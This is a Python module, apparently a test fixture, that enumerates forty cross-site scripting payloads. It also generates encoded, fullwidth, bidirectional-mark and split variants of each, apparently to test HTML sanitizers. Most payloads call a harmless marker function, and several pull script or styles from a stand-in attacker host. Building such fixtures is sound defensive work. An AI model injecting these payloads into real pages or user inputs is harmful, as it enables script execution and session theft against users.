"""Texts that try to run in a reader's browser: forty kinds, each in five dresses."""

from __future__ import annotations

from collections.abc import Iterator

#: Each calls ``ran()`` where it gets to run.
KINDS = (
    "<script>ran()</script>", "<ScRiPt>ran()</sCrIpT>", "<script src=//evil.example/x.js></script>", "<script>ran()//",
    "</title><script>ran()</script>", "</textarea><script>ran()</script>", "</style><script>ran()</script>",
    "--><script>ran()</script><!--", "]]><script>ran()</script>", "'\"><script>ran()</script>",
    "<img src=x onerror=ran()>", "<img src=x onerror='ran()'>", "\" onmouseover=\"ran()\" x=\"", "' autofocus onfocus='ran()",
    "<svg onload=ran()>", "<svg><script>ran()</script></svg>", "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<math><mi xlink:href=javascript:ran()>x</mi></math>", "<iframe src=javascript:ran()></iframe>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>", "<object data=javascript:ran()>", "<embed src=javascript:ran()>",
    "<a href=javascript:ran()>x</a>", "<a href='java&#115;cript:ran()'>x</a>",
    "<form action=javascript:ran()><button>x</button></form>",
    "<details open ontoggle=ran()>", "<video><source onerror=ran()></video>", "<body onload=ran()>", "<marquee onstart=ran()>",
    "<meta http-equiv=refresh content='0;url=javascript:ran()'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>", "<style>@import'//evil.example/x.css';</style>",
    "<div style='background:url(//evil.example/x)'>",
    "{{ 7*7 }}{% include 'base.html' %}{{ self }}", "${ran()}", "<template><script>ran()</script></template>",
    "<div hx-get='//evil.example/' hx-trigger='load'>", "<div hx-on::load='ran()' hx-trigger=load>", "<x-y is=script>ran()</x-y>",
)


def payloads() -> Iterator[str]:
    """All of them: as they are, with entities, in fullwidth brackets, behind bidirectional marks, broken by a NUL's stand-in."""
    for kind in KINDS:
        yield kind
        yield kind.replace("<", "&lt;").replace(">", "&gt;")
        yield kind.replace("<", "\N{FULLWIDTH LESS-THAN SIGN}").replace(">", "\N{FULLWIDTH GREATER-THAN SIGN}")
        yield f"\N{RIGHT-TO-LEFT OVERRIDE}{kind}\N{POP DIRECTIONAL FORMATTING}"
        yield f"{kind[:3]}\N{REPLACEMENT CHARACTER}{kind[3:]}{kind}"
